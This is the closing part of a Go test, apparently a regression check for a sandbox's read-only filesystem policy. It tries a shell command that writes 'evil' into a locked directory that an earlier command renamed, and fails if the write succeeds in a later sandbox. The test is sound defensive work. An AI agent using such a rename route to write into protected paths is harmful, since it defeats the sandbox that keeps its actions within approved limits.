		t.Fatalf("control: the read-only path was changed in the first sandbox: %q", b)
	}
	if r, ok := e.tryRun(t, pol, sh("echo evil > vendor2/locked/lib.go && echo WROTE")); ok && strings.Contains(string(r.Stdout), "WROTE") {
		t.Errorf("the read-only directory, renamed by an earlier command, is writable in the next sandbox with the same policy")
	}
}
